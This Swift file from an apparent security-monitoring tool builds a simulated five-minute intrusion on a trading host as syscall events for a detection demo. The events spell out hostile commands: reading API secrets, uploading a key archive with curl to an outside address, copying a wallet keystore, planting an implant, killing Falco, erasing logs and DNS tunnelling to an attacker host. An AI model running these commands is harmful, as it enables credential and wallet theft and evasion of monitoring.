import TradsecCore

/// The bundled incident: a trading host with three containers and the host itself, five
/// minutes of trading. Half a minute of normal activity, then an intrusion into the trading
/// bot — a shell, the API keys read, an unknown "exchange" contacted, the keys packed and sent
/// out, a wallet copied — a foothold in the exchange connector, an attempt to stop Falco and
/// to erase the trading log; normal trading goes on underneath until the end.
///
/// Built in code (not read from a file) so `tradsec demo` works wherever the binary is.
/// Events are raw syscall events in the engine's JSON Lines shape; `offset` is seconds from
/// the start of the scenario.
enum IncidentScenario {
    struct Step {
        var offset: Double
        var event: JSONValue
    }

    struct Container {
        var id: String, name: String, image: String
    }

    static let bot = Container(id: "3ad7b26ded6d", name: "ai-trading-bot", image: "ghcr.io/acme/ai-trading-bot")
    static let connector = Container(id: "91c0fe22ab10", name: "bluefin-service", image: "ghcr.io/acme/bluefin-service")
    static let dashboard = Container(id: "5be1a9d04c77", name: "dashboard", image: "ghcr.io/acme/dashboard")

    /// Scenario length in seconds.
    static let duration: Double = 300

    static func steps() -> [Step] {
        var b = Builder()
        // Normal trading: orders, market data, own database, health checks, log appends, rotation.
        var t = 0.0
        while t < duration {
            b.connect(t, bot, "trading-bot", "trading-bot --live", ip: "192.0.2.10", port: 443)              // REST orders
            b.connect(t + 0.4, bot, "trading-bot", "trading-bot --live", ip: "198.18.7.1", port: 9443)        // market data
            b.connect(t + 0.8, connector, "bluefin-service", "bluefin-service", ip: "192.0.2.11", port: 443)
            b.connect(t + 1.2, bot, "trading-bot", "trading-bot --live", ip: "10.0.3.7", port: 5432)          // own database
            b.open(t + 1.6, bot, "trading-bot", "trading-bot --live", "/var/log/trading/orders.log", write: true, flags: "O_WRONLY|O_APPEND")
            if Int(t) % 30 == 0 {
                b.exec(t + 2.0, bot, "curl", "curl -fsS http://localhost:8000/health", parent: "runc", healthCheck: true)
                b.open(t + 2.2, bot, "trading-bot", "trading-bot --live", "/app/.env")                       // the bot reads its keys
            }
            if Int(t) % 60 == 0 {
                b.exec(t + 2.5, dashboard, "node", "node /srv/dashboard/server.js --refresh", parent: "runc")
            }
            t += 5
        }
        b.open(120, nil, "logrotate", "logrotate /etc/logrotate.conf", "/var/log/trading/orders.log", write: true, flags: "O_WRONLY|O_TRUNC")

        // The intrusion, through the trading bot's web hook.
        b.exec(30, bot, "bash", "bash -i", parent: "python3", tty: 34816)
        b.open(37, bot, "cat", "cat /app/.env", "/app/.env")
        b.open(44, bot, "cat", "cat /run/secrets/binance_api_secret", "/run/secrets/binance_api_secret")
        b.exec(52, bot, "curl", "curl -s https://api.bnance-pro.example/v3/ping", parent: "bash")
        b.connect(52.3, bot, "curl", "curl -s https://api.bnance-pro.example/v3/ping", ip: "203.0.113.77", port: 443)
        b.exec(65, bot, "tar", "tar czf /tmp/k.tgz /app/.env /app/config", parent: "bash")
        b.open(65.2, bot, "tar", "tar czf /tmp/k.tgz /app/.env /app/config", "/app/.env")
        b.open(71, bot, "cat", "cat /app/data/fills-2026-11.parquet", "/app/data/fills-2026-11.parquet")
        b.exec(78, bot, "curl", "curl -T /tmp/k.tgz https://198.51.100.23:8443/u", parent: "bash")
        b.connect(78.4, bot, "curl", "curl -T /tmp/k.tgz https://198.51.100.23:8443/u", ip: "198.51.100.23", port: 8443)
        b.open(90, bot, "cp", "cp -r /home/bot/.ethereum /tmp/w", "/home/bot/.ethereum/keystore/UTC--2026-01-02T10-00-00.0Z--a1b2")
        // A foothold in the exchange connector.
        b.exec(110, connector, "sh", "sh -c id", parent: "python3")
        b.exec(116, connector, "apt-get", "apt-get install -y nmap", parent: "sh")
        b.open(130, connector, "cp", "cp /tmp/implant /usr/bin/ls", "/usr/bin/ls", write: true)
        b.exec(145, connector, "nsenter", "nsenter -t 1 -m -u -i -n sh", parent: "sh")
        // Covering tracks on the host.
        b.exec(160, nil, "pkill", "pkill -9 falco", parent: "bash")
        b.exec(166, nil, "systemctl", "systemctl stop falco-modern-bpf", parent: "bash")
        b.exec(172, bot, "truncate", "truncate -s0 /var/log/trading/orders.log", parent: "bash")
        b.exec(180, bot, "iodine", "iodine -f -P hunter2 t1.attacker.example", parent: "bash")
        // An alert whose text carries terminal escape sequences: the console must show them escaped.
        b.open(190, bot, "cat", "cat /app/secrets/\u{1b}]0;owned\u{07}\u{1b}[2J.key", "/app/secrets/\u{1b}]0;owned\u{07}\u{1b}[2J.key")
        return b.steps.sorted { $0.offset < $1.offset }
    }

    /// Assembles events with consistent process, container and fd fields.
    struct Builder {
        var steps: [Step] = []
        private var number: Int64 = 0

        mutating func add(_ offset: Double, _ type: String, _ container: Container?, _ process: String, _ cmdline: String,
                          parent: String, extra: [(String, JSONValue)]) {
            number += 1
            var fields: [(String, JSONValue)] = [
                ("evt.num", .int(number)), ("evt.type", .string(type)), ("evt.dir", .string("<")),
                ("evt.res", .string("SUCCESS")), ("evt.rawres", .int(0)), ("evt.failed", .bool(false)),
                ("proc.name", .string(process)), ("proc.cmdline", .string(cmdline)),
                ("proc.args", .string(cmdline.split(separator: " ", maxSplits: 1).dropFirst().first.map(String.init) ?? "")),
                ("proc.exepath", .string("/usr/bin/" + process)), ("proc.pname", .string(parent)),
                ("proc.pid", .int(4000 + number)), ("proc.tty", .int(0)), ("user.name", .string("root")), ("user.uid", .int(0)),
                ("proc.is_container_healthcheck", .bool(false)), ("proc.is_container_liveness_probe", .bool(false)),
                ("proc.is_container_readiness_probe", .bool(false)), ("container.privileged", .bool(false)),
            ]
            if let c = container {
                fields += [("container.id", .string(c.id)), ("container.name", .string(c.name)),
                           ("container.image.repository", .string(c.image))]
            } else {
                fields += [("container.id", .string("host")), ("container.name", .string("host"))]
            }
            for (key, value) in extra {
                if let i = fields.firstIndex(where: { $0.0 == key }) { fields[i].1 = value } else { fields.append((key, value)) }
            }
            steps.append(Step(offset: offset, event: .object(JSONObject([
                ("source", .string("syscall")), ("fields", .object(JSONObject(fields))),
            ]))))
        }

        mutating func exec(_ t: Double, _ c: Container?, _ process: String, _ cmdline: String, parent: String = "bash",
                           tty: Int64 = 0, healthCheck: Bool = false) {
            add(t, "execve", c, process, cmdline, parent: parent,
                extra: [("proc.tty", .int(tty)), ("proc.is_container_healthcheck", .bool(healthCheck))])
        }

        mutating func open(_ t: Double, _ c: Container?, _ process: String, _ cmdline: String, _ path: String,
                           write: Bool = false, flags: String? = nil) {
            let slash = path.lastIndex(of: "/")!
            add(t, "openat", c, process, cmdline, parent: "bash", extra: [
                ("fd.name", .string(path)), ("fd.directory", .string(slash == path.startIndex ? "/" : String(path[..<slash]))),
                ("fd.filename", .string(String(path[path.index(after: slash)...]))), ("fd.typechar", .string("f")),
                ("fd.type", .string("file")), ("fd.num", .int(5)), ("evt.rawres", .int(5)),
                ("evt.is_open_read", .bool(!write)), ("evt.is_open_write", .bool(write)),
                ("evt.arg.flags", .string(flags ?? (write ? "O_WRONLY|O_CREAT" : "O_RDONLY|O_CLOEXEC"))),
            ])
        }

        mutating func connect(_ t: Double, _ c: Container?, _ process: String, _ cmdline: String, ip: String, port: Int64) {
            add(t, "connect", c, process, cmdline, parent: "runc", extra: [
                ("fd.name", .string("172.17.0.2:40522->\(ip):\(port)")), ("fd.typechar", .string("4")), ("fd.type", .string("ipv4")),
                ("fd.num", .int(7)), ("fd.sip", .string(ip)), ("fd.sport", .int(port)), ("fd.cip", .string("172.17.0.2")),
                ("fd.cport", .int(40522)), ("fd.l4proto", .string("tcp")),
            ])
        }
    }
}
